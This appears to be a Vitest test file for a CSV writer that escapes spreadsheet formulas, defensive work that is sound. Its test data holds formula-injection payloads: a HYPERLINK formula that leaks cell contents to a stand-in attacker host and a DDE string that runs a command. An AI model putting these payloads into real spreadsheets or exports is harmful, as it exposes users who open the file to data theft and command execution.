// The one writer of Vitrine's CSV (shared/csv.ts): no cell begins like a formula, and what it adds the
// import takes off again, so that every text comes back as it was.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText, formulaSafe, restoreFormulaCell } from '@shared/csv';

const TEXTS = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '+1+2',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  // A formula on the first line of several, which a test of the whole text with "." would miss.
  '=1+1\nsecond line',
  "'=already quoted",
  "''+twice",
  "'plain",
  'plain',
  'a;=1+1',
  '-3',
  '-0.5',
  '-1e3',
  '',
];

describe('CSV cells', () => {
  it("gives a ' to a text that begins like a formula, and quotes it", () => {
    const text = csvText([TEXTS]);
    const cells = Papa.parse<string[]>(text, { skipEmptyLines: true }).data[0]!;
    expect(cells).toHaveLength(TEXTS.length);
    for (const cell of cells) if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-\d+(\.\d+)?$/);
    expect(text.startsWith(`"'=HYPERLINK(""https://evil.example/?""&A1,""x"")","'+1+2",`)).toBe(true);
    expect(cells[6]).toBe("'=1+1\nsecond line");
    expect(text).toContain(',"a;=1+1",-3,-0.5,');
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('leaves numbers and yes/no as they are', () => {
    expect(csvText([[-3, 4.5, true, null, '-3']])).toBe('-3,4.5,true,,-3\r\n');
  });

  it('takes off on import exactly what it added', () => {
    for (const text of TEXTS) expect(restoreFormulaCell(formulaSafe(text))).toBe(text);
    expect(restoreFormulaCell("'plain")).toBe("'plain");
  });
});
